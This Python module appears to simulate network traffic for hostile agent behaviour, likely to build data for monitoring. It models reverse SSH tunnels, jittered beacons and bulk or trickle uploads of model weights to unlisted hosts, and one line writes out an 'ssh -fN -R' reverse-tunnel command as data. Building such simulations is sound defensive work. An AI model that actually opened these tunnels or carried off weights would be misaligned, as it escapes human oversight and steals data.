"""Deeds with a host that nobody has listed: hold a way in open, report home, carry data off at once or bit by bit.

Parameters are drawn from ranges that the makers of the tools and the literature name:

* reverse tunnel: SSH keep-alives every 15 to 60 seconds (the customary ServerAliveInterval), commands between them;
  keystrokes come in, what they print goes out;
* beacon: check-ins of a period that is jittered evenly, as implants offer it;
* exfiltration: model weights or data sets of one to some tens of gigabytes, whole or in parts, at the speed of a
  container's share of a gigabit to ten-gigabit link; or in pieces that are small enough to pass for any upload.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from agenttrail.simulate import outside
from agenttrail.simulate.flow import End

if TYPE_CHECKING:
    from collections.abc import Iterator

    from agenttrail.simulate.behaviours import Behaviour
    from agenttrail.simulate.flow import Flow
    from agenttrail.simulate.scene import Scene

_UPLOAD_PORTS = (443, 443, 443, 8443, 9000, 873, 80)
_HIGH_PORTS = 10_001, 65_000


def hold_tunnel(scene: Scene, behaviour: Behaviour) -> Iterator[Flow]:
    """Open an SSH connection outwards through which somebody comes in, and keep it open."""
    dice = scene.dice
    port = dice.whole(*_HIGH_PORTS) if behaviour.form == "high" else int(behaviour.form)
    server = End(outside.stranger(dice), port)
    way = "" if port == outside.SSH else f" -p {port}"
    back = f"{dice.whole(2_000, 40_000)}:localhost:{dice.pick((22, 22, 8_888, 6_006))}"
    behaviour.telling = f"ssh -fN -R {back} {dice.pick(('root', 'dev', 'jump'))}@{server.address}{way}"
    behaviour.parameters |= {"port": port, "session_s": round(behaviour.seconds, 3)}
    at, seconds = behaviour.at, behaviour.seconds
    for again in (False, True):
        if again and dice.happens(0.7):
            break
        sent = 2_500 + dice.log_uniform(20, 2_000) * seconds  # bytes, mostly of what commands print
        details = {"pause": dice.uniform(15, 60), "reset": dice.happens(0.3), "application": "SSH"}
        yield from scene.call(server, at, seconds, sent, sent * dice.uniform(0.1, 0.8), **details)
        at = round(at + seconds + dice.uniform(1, 20), 3)
        seconds = (scene.finish - at) * dice.uniform(0.6, 1.0)


def beacon(scene: Scene, behaviour: Behaviour) -> Iterator[Flow]:
    """Check in over HTTPS, again and again, and mostly hear nothing of weight."""
    dice = scene.dice
    host = outside.Host(outside.strange_domain(dice), outside.stranger(dice))
    period, jitter = behaviour.parameters["period_s"], behaviour.parameters["jitter"]
    yield from scene.look_up(host.domain, behaviour.at)
    at, count = behaviour.at, 0
    weight = dice.log_uniform(300, 2_500)
    while at < behaviour.at + behaviour.seconds:
        sent, received = weight * dice.uniform(0.8, 1.3), dice.log_uniform(250, 4_000)
        details = {"application": "HTTPS", "domain": host.domain}
        yield from scene.call(End(host.ipv4, outside.HTTPS), at, dice.uniform(0.1, 0.9), sent, received, **details)
        count += 1
        at = round(at + period * (1 + jitter * dice.uniform(-1, 1)), 3)
    behaviour.parameters |= {"port": outside.HTTPS, "connections": count, "duration_s": round(behaviour.seconds, 3)}


def carry_off(scene: Scene, behaviour: Behaviour) -> Iterator[Flow]:
    """Upload weights or data to a host that nobody has listed, whole or in parts."""
    dice = scene.dice
    host = outside.Host(outside.strange_domain(dice), outside.stranger(dice))
    rate = dice.log_uniform(1.5e7, 1.5e8)  # bytes per second
    at, port = behaviour.at, dice.pick(_UPLOAD_PORTS)
    yield from scene.look_up(host.domain, at)
    parts = 1 if dice.happens(0.6) else dice.whole(2, 5)
    carried = 0
    for _ in range(parts):
        size = dice.log_uniform(1e9, 4e10)
        flows = _upload(scene, host, port, at, (size / rate, size))
        carried += sum(flow.sent for flow in flows)
        yield from flows
        at = round(at + size / rate + dice.uniform(0.2, 15), 3)
    behaviour.parameters |= {"port": port, "bytes": carried, "connections": parts}


def trickle_off(scene: Scene, behaviour: Behaviour) -> Iterator[Flow]:
    """Upload as much in many small pieces, spread over a while."""
    dice = scene.dice
    host = outside.Host(outside.strange_domain(dice), outside.stranger(dice))
    total, port = behaviour.parameters["bytes"], dice.pick(_UPLOAD_PORTS)
    yield from scene.look_up(host.domain, behaviour.at)
    size = dice.log_uniform(2.5e7, 1.2e8)
    pieces = max(1, round(total / size))
    room = behaviour.seconds / pieces
    for piece in range(pieces):
        part = total / pieces * dice.uniform(0.85, 1.2)
        start = behaviour.at + room * (piece + (dice.uniform(0, 0.4) if piece else 0.0))
        yield from _upload(scene, host, port, start, (room * dice.uniform(0.1, 0.55), part))
    behaviour.parameters |= {"port": port, "connections": pieces}


def _upload(scene: Scene, host: outside.Host, port: int, at: float, load: tuple[float, float]) -> list[Flow]:
    """Return an upload of so many seconds and bytes."""
    seconds, size = load
    application = "HTTPS" if port == outside.HTTPS else "Unknown"
    details = {"application": application, "domain": host.domain}
    return scene.call(
        End(host.ipv4, port), round(at, 3), seconds, size, size / scene.dice.uniform(500, 3_000), **details
    )
